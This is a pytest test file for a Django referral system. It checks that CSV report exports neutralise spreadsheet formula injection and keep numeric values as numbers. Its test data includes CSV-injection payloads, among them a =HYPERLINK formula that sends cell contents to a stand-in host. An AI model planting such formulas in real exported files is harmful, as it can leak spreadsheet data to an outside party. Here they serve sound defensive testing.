"""Issue 15, input 8: a name staff typed cannot reach a CSV as a live Excel formula.

Every CSV (the monthly and fiscal-year reports, the disclosure report) goes through
``referral_hub.excel_csv``: cells starting with = + - @ tab or CR get a leading quote (OWASP,
CSV Injection); numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.test import Client
from django.utils import timezone

from referral_hub.audit.renderers import DisclosureCSVRenderer
from referral_hub.directory.models import Department
from referral_hub.excel_csv import excel_safe
from tests.reports.conftest import AS_OF, jst

pytestmark = [pytest.mark.django_db, pytest.mark.urls("tests.reports.urls")]

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"収納課 分室")'


def table(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def lead_client(client: Client, make_user, place, monkeypatch: pytest.MonkeyPatch) -> Client:
    monkeypatch.setattr(timezone, "now", lambda: AS_OF)
    client.force_login(make_user("lead", desk=place.jiritsu))
    return client


def test_department_named_like_a_formula_is_text_in_the_monthly_csv(
    lead_client: Client, place, make_sheet
) -> None:
    branch = Department.objects.create(municipality=place.city, code="bunshitsu", name=HYPERLINK)
    make_sheet(jst(2026, 4, 7, 10, 0), department=branch)
    response = lead_client.get("/api/v1/reports/monthly/", {"month": "2026-04", "format": "csv"})
    assert response.status_code == 200
    rows = table(response.content)
    department_rows = [row for row in rows if row[0] == "送付元部署" and row[2] == "bunshitsu"]
    assert department_rows == [["送付元部署", "'" + HYPERLINK, "bunshitsu", "1"]]
    assert not any(cell.startswith("=") for row in rows for cell in row)


def disclosure_row(**overrides):
    row = {
        "seq": 7,
        "at": datetime.datetime(2026, 4, 1, 1, 0, tzinfo=datetime.UTC),
        "action_label": "シート閲覧",
        "actor_username": "@SUM(1+1)",
        "actor_desk": "-2+3",
        "legal_basis_label": "本人同意",
        "recipient_desk": "\t=1+1",
        "target_type": "sheet",
        "target_id": "-5",
    }
    row.update(overrides)
    return row


def test_disclosure_csv_neutralises_formulas_and_keeps_numbers() -> None:
    data = {"resident": 1, "generated_at": None, "count": 1, "results": [disclosure_row()]}
    rows = table(DisclosureCSVRenderer().render(data))
    assert rows[1] == [
        "7",
        "2026-04-01 10:00:00",
        "シート閲覧",
        "'@SUM(1+1)",
        "'-2+3",
        "本人同意",
        "'\t=1+1",
        "sheet",
        "-5",
    ]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("収納課", "収納課"),
        ("a=b", "a=b"),
        ("-3", "-3"),
        ("-0.5", "-0.5"),
        ("+81", "+81"),
        (-3, "-3"),
        (-2.5, "-2.5"),
        (None, ""),
    ],
)
def test_excel_safe_cells(value, cell) -> None:
    assert excel_safe(value) == cell
